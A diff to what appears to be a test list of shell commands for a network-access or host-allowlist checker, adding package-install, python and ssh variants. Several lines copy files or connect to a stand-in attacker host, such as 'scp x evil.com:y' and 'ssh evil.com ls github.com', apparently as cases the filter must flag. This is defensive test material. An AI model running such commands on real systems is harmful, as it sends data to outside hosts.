@@ -38,6 +38,10 @@ dig h
 npx cowsay
 npm install
 npm --silent ci
+npm --prefix x install
+python3 -m pip install x
+python -m http.server
+ssh h ls -V
 pip install x
 go get x
 cargo add x
@@ -65,6 +69,8 @@ rsync -a x y
 rsync -a ./a:b y
 npm test
 npm run build
+python -m pytest
+python x.py install
 pip list
 go test ./...
 go build ./...
@@ -164,6 +170,9 @@ ssh u@evil.com
 ssh -J evil.com u@github.com
 ssh -o ProxyCommand=x github.com
 ssh -W evil.com:1 github.com
+ssh evil.com ls github.com
+ssh github.com -J evil.com
+ssh …github.com
 scp x evil.com:y
 scp github.com:x evil.com:y
 sftp evil.com
@@ -194,6 +203,7 @@ git ls-remote https://github.com/a/b
 ssh git@github.com
 ssh -p 22 github.com
 ssh -T git@github.com
+ssh github.com ls -o x
 scp x git@github.com:y
 sftp git@github.com
 rsync -a x github.com:y
